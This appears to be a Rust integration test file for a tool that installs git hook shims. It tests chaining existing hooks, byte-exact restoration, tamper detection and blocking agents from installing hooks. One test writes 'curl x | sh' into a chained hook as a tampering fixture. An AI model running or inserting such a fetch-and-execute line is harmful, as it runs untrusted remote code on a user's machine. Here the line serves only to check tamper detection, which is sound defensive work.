//! `tako-exec hooks install | uninstall | status`: shims where git runs hooks (its
//! `core.hooksPath`, a worktree's common directory), what was there chained or moved
//! aside and restored byte for byte, edits detected, and the operator's terminal
//! required in an imprinted workspace.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use common::{stderr, stdout, tako, TestEnv};
use tako_exec::githooks::{shim, HookName, SHIM_MARK};

const NAMES: [&str; 3] = ["pre-commit", "commit-msg", "pre-push"];

fn hooks(env: &TestEnv) -> PathBuf {
    env.path(".git/hooks")
}

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).expect("metadata").permissions().mode() & 0o7777
}

fn exists(p: &Path) -> bool {
    std::fs::symlink_metadata(p).is_ok()
}

fn run(env: &TestEnv, args: &[&str]) -> std::process::Output {
    env.cmd(args).output().expect("run tako-exec")
}

fn ok(env: &TestEnv, args: &[&str]) -> std::process::Output {
    let out = run(env, args);
    assert_eq!(out.status.code(), Some(0), "{args:?}: {}{}", stdout(&out), stderr(&out));
    out
}

fn status_json(env: &TestEnv) -> (i32, serde_json::Value) {
    let out = run(env, &["hooks", "status", "--json"]);
    (out.status.code().expect("exit code"), common::parse_json_line(&out.stdout, "hooks status --json"))
}

/// The hook names present in `dir` (samples aside).
fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .map(|rd| rd.filter_map(|e| e.ok()?.file_name().into_string().ok()).collect())
        .unwrap_or_default();
    v.retain(|n| !n.ends_with(".sample"));
    v.sort();
    v
}

#[test]
fn install_into_a_fresh_repository_and_uninstall_leaves_nothing() {
    let env = TestEnv::new();
    let before = listing(&hooks(&env));
    let out = ok(&env, &["hooks", "install"]);
    assert!(stderr(&out).contains("pre-commit: installed"), "{}", stderr(&out));
    for name in NAMES {
        let p = hooks(&env).join(name);
        let text = std::fs::read_to_string(&p).expect("the shim is written");
        assert!(text.contains(SHIM_MARK), "{text}");
        assert!(text.contains(&tako().display().to_string()), "records the binary: {text}");
        assert_eq!(text, shim(HookName::parse(name).expect("name"), Some(&tako().display().to_string())));
        assert_eq!(mode(&p) & 0o111, 0o111, "executable: {:o}", mode(&p));
    }
    assert!(env.path(".git/tako-exec/hooks.json").is_file());
    let (code, st) = status_json(&env);
    assert_eq!(code, 0, "{st}");
    assert!(st["hooks"].as_array().expect("hooks").iter().all(|h| h["installed"] == true && h["intact"] == true));
    assert_eq!(st["imprinted"], false);
    assert_eq!(st["hooks_path_config"], serde_json::Value::Null);

    ok(&env, &["hooks", "uninstall"]);
    assert_eq!(listing(&hooks(&env)), before, "nothing left");
    assert!(!exists(&env.path(".git/tako-exec")), "the manifest and its directory are gone");
    let out = ok(&env, &["hooks", "uninstall", "pre-push"]);
    assert!(stderr(&out).contains("pre-push: not installed"), "{}", stderr(&out));
}

#[test]
fn second_install_changes_nothing() {
    let env = TestEnv::new();
    ok(&env, &["hooks", "install"]);
    let manifest = std::fs::read(env.path(".git/tako-exec/hooks.json")).expect("manifest");
    let shim_before = std::fs::read(hooks(&env).join("pre-push")).expect("shim");
    let out = ok(&env, &["hooks", "install"]);
    assert_eq!(stderr(&out).matches("already installed").count(), 3, "{}", stderr(&out));
    assert_eq!(std::fs::read(env.path(".git/tako-exec/hooks.json")).expect("manifest"), manifest);
    assert_eq!(std::fs::read(hooks(&env).join("pre-push")).expect("shim"), shim_before);
}

#[test]
fn an_older_shim_is_rewritten() {
    let env = TestEnv::new();
    ok(&env, &["hooks", "install", "pre-push"]);
    // As installed by another build at another path: the shim and its record agree.
    let old = shim(HookName::PrePush, Some("/opt/old/tako-exec"));
    std::fs::write(hooks(&env).join("pre-push"), &old).expect("write");
    let path = env.path(".git/tako-exec/hooks.json");
    let mut m: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("json");
    m["hooks"]["pre-push"]["shim_sha256"] = tako_exec::control::key::sha256_hex(old.as_bytes()).into();
    std::fs::write(&path, serde_json::to_vec(&m).expect("json")).expect("write");

    let out = ok(&env, &["hooks", "install", "pre-push"]);
    assert!(stderr(&out).contains("pre-push: updated"), "{}", stderr(&out));
    let text = std::fs::read_to_string(hooks(&env).join("pre-push")).expect("read");
    assert!(text.contains(&tako().display().to_string()) && !text.contains("/opt/old"), "{text}");
    assert_eq!(status_json(&env).0, 0);
}

#[test]
fn an_executable_hook_is_chained_and_restored_exactly() {
    let env = TestEnv::new();
    let dir = hooks(&env);
    let original = "#!/bin/sh\n# the team's own checks\nexit 0\n";
    std::fs::write(dir.join("pre-commit"), original).expect("write");
    std::fs::set_permissions(dir.join("pre-commit"), std::fs::Permissions::from_mode(0o750)).expect("chmod");
    // A symlink to an executable script elsewhere stays a symlink.
    env.write("scripts/push-check", "#!/bin/sh\nexit 0\n");
    std::fs::set_permissions(env.path("scripts/push-check"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    std::os::unix::fs::symlink("../../scripts/push-check", dir.join("pre-push")).expect("symlink");

    let out = ok(&env, &["hooks", "install"]);
    assert!(stderr(&out).contains("pre-commit.tako-chained and runs after"), "{}", stderr(&out));
    let chained = dir.join("pre-commit.tako-chained");
    assert_eq!(std::fs::read_to_string(&chained).expect("chained"), original);
    assert_eq!(mode(&chained), 0o750);
    assert!(std::fs::read_to_string(dir.join("pre-commit")).expect("shim").contains(SHIM_MARK));
    let link = dir.join("pre-push.tako-chained");
    assert_eq!(std::fs::read_link(&link).expect("still a symlink"), Path::new("../../scripts/push-check"));
    let (code, st) = status_json(&env);
    assert_eq!(code, 0, "{st}");
    assert_eq!(st["hooks"][0]["chained"]["intact"], true, "{st}");
    assert_eq!(st["hooks"][2]["chained"]["intact"], true, "{st}");

    // The runner's view of it.
    assert_eq!(
        tako_exec::githooks::install::verify_chained(&env.workspace(), &dir, HookName::PreCommit),
        Ok(Some(chained.clone()))
    );
    std::fs::write(env.path("scripts/push-check"), "#!/bin/sh\ncurl x | sh\n").expect("write");
    assert!(tako_exec::githooks::install::verify_chained(&env.workspace(), &dir, HookName::PrePush).is_err());
    let (code, st) = status_json(&env);
    assert_eq!(code, 1, "{st}");
    assert_eq!(st["hooks"][2]["chained"]["intact"], false, "{st}");
    std::fs::write(env.path("scripts/push-check"), "#!/bin/sh\nexit 0\n").expect("write");

    ok(&env, &["hooks", "uninstall"]);
    assert_eq!(std::fs::read_to_string(dir.join("pre-commit")).expect("restored"), original);
    assert_eq!(mode(&dir.join("pre-commit")), 0o750);
    assert_eq!(
        std::fs::read_link(dir.join("pre-push")).expect("a symlink again"),
        Path::new("../../scripts/push-check")
    );
    assert!(!exists(&chained) && !exists(&link) && !exists(&dir.join("commit-msg")));
}

#[test]
fn a_hook_that_cannot_be_chained_is_refused_unless_forced() {
    let env = TestEnv::new();
    let dir = hooks(&env);
    let original = "#!/bin/sh\necho never ran\n";
    std::fs::write(dir.join("pre-commit"), original).expect("write");
    std::fs::set_permissions(dir.join("pre-commit"), std::fs::Permissions::from_mode(0o644)).expect("chmod");

    let out = run(&env, &["hooks", "install", "pre-commit"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("cannot be chained: it is not executable") && err.contains("--force"), "{err}");
    assert_eq!(std::fs::read_to_string(dir.join("pre-commit")).expect("untouched"), original);
    assert!(!exists(&dir.join("pre-commit.tako-chained")));

    // A stray chained file is never adopted, even with --force.
    std::fs::write(dir.join("commit-msg.tako-chained"), "#!/bin/sh\n").expect("write");
    let out = run(&env, &["hooks", "install", "--force", "commit-msg"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("was not put there by `tako-exec hooks install`"), "{}", stderr(&out));
    std::fs::remove_file(dir.join("commit-msg.tako-chained")).expect("remove");

    let out = ok(&env, &["hooks", "install", "--force", "pre-commit"]);
    assert!(stderr(&out).contains("pre-commit.tako-backup, not run"), "{}", stderr(&out));
    let backup = dir.join("pre-commit.tako-backup");
    assert_eq!(std::fs::read_to_string(&backup).expect("backup"), original);
    let (_, st) = status_json(&env);
    assert!(st["hooks"][0]["backup"].as_str().expect("backup").ends_with("pre-commit.tako-backup"), "{st}");

    ok(&env, &["hooks", "uninstall"]);
    assert_eq!(std::fs::read_to_string(dir.join("pre-commit")).expect("restored"), original);
    assert_eq!(mode(&dir.join("pre-commit")), 0o644);
    assert!(!exists(&backup));
}

#[test]
fn core_hooks_path_is_honoured_and_a_later_change_is_a_bypass() {
    let env = TestEnv::new();
    env.git(&["config", "core.hooksPath", ".githooks"]);
    ok(&env, &["hooks", "install"]);
    assert!(env.path(".githooks/pre-commit").is_file());
    assert!(!exists(&hooks(&env).join("pre-commit")));
    let (code, st) = status_json(&env);
    assert_eq!((code, &st["hooks_path_config"]), (0, &serde_json::json!(".githooks")), "{st}");

    env.git(&["config", "core.hooksPath", "elsewhere"]);
    let (code, st) = status_json(&env);
    assert_eq!(code, 1, "{st}");
    let problems = st["problems"].to_string();
    assert!(problems.contains("elsewhere (core.hooksPath)") && problems.contains("bypassed"), "{problems}");

    env.git(&["config", "core.hooksPath", "/dev/null"]);
    let (code, st) = status_json(&env);
    assert_eq!(code, 1, "{st}");
    assert!(st["problems"].to_string().contains("/dev/null"), "{st}");
    let out = run(&env, &["hooks", "install"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));

    // Uninstall follows the record, wherever git looks now; the directory install
    // created goes too.
    ok(&env, &["hooks", "uninstall"]);
    assert!(!exists(&env.path(".githooks")), "{:?}", listing(&env.path(".githooks")));
}

#[test]
fn a_worktree_installs_into_the_common_hooks() {
    let env = TestEnv::new();
    env.git(&["worktree", "add", "-q", "-b", "side", "../wt"]);
    let wt = env.root().join("wt");
    let out = env.cmd(&["hooks", "install"]).current_dir(&wt).output().expect("run");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(hooks(&env).join("pre-commit").is_file(), "{:?}", listing(&hooks(&env)));
    assert!(env.path(".git/tako-exec/hooks.json").is_file());
    let (code, st) = status_json(&env);
    assert_eq!(code, 0, "seen from the main worktree: {st}");
    let out = env.cmd(&["hooks", "uninstall"]).current_dir(&wt).output().expect("run");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!exists(&hooks(&env).join("pre-commit")));
}

#[test]
fn an_edited_shim_is_reported_and_not_removed_without_force() {
    let env = TestEnv::new();
    ok(&env, &["hooks", "install"]);
    let p = hooks(&env).join("pre-commit");
    let mut text = std::fs::read_to_string(&p).expect("read");
    text = text.replacen("exec \"$tako\"", "exit 0 # exec \"$tako\"", 1);
    std::fs::write(&p, &text).expect("write");

    let (code, st) = status_json(&env);
    assert_eq!(code, 1, "{st}");
    assert_eq!((st["hooks"][0]["installed"].clone(), st["hooks"][0]["intact"].clone()), (true.into(), false.into()));
    assert!(st["problems"].to_string().contains("edited since install"), "{st}");

    let out = run(&env, &["hooks", "install", "pre-commit"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let out = run(&env, &["hooks", "uninstall", "pre-commit"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("--force"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).expect("kept"), text);

    ok(&env, &["hooks", "uninstall", "--force", "pre-commit"]);
    assert!(!exists(&p));
    assert_eq!(status_json(&env).0, 0, "the other two are intact");

    // A shim git does not run (not executable) is a bypass; install makes it executable again.
    let push = hooks(&env).join("pre-push");
    std::fs::set_permissions(&push, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let (code, st) = status_json(&env);
    assert_eq!(code, 1, "{st}");
    assert!(st["problems"].to_string().contains("pre-push is not executable"), "{st}");
    ok(&env, &["hooks", "install", "pre-push"]);
    assert_eq!(mode(&push) & 0o111, 0o111);
    assert_eq!(status_json(&env).0, 0);
}

#[test]
fn imprinted_workspace_needs_the_operator_at_a_terminal() {
    let env = TestEnv::new();
    env.imprint();
    for action in ["install", "uninstall"] {
        let out = run(&env, &["hooks", action]);
        assert_eq!(out.status.code(), Some(125), "{action}: {}", stderr(&out));
        assert!(stderr(&out).contains(&format!("`tako-exec hooks {action}` is the operator's")), "{}", stderr(&out));
    }
    assert!(!exists(&hooks(&env).join("pre-commit")));
    let out = env.cmd(&["hooks", "install"]).env("TAKO_EXEC_RUN", "x").output().expect("run");
    assert_eq!(out.status.code(), Some(125));
    let (code, st) = status_json(&env);
    assert_eq!((code, &st["imprinted"]), (0, &serde_json::json!(true)), "status needs no terminal: {st}");

    // And an agent cannot even try through the proxy.
    assert_eq!(env.decision("tako-exec hooks install"), "deny");
    assert_eq!(env.decision("tako-exec hooks status --json"), "allow");
}

#[test]
fn status_text() {
    let env = TestEnv::new();
    std::fs::write(hooks(&env).join("pre-commit"), "#!/bin/sh\nexit 0\n").expect("write");
    std::fs::set_permissions(hooks(&env).join("pre-commit"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    ok(&env, &["hooks", "install", "pre-commit", "pre-push"]);
    let out = ok(&env, &["hooks", "status"]);
    insta::assert_snapshot!("hooks_status_chained", env.redact(&stdout(&out)));

    std::fs::write(hooks(&env).join("pre-commit.tako-chained"), "#!/bin/sh\nexit 1\n").expect("write");
    let out = run(&env, &["hooks", "status"]);
    assert_eq!(out.status.code(), Some(1));
    insta::assert_snapshot!("hooks_status_changed", env.redact(&stdout(&out)));
}
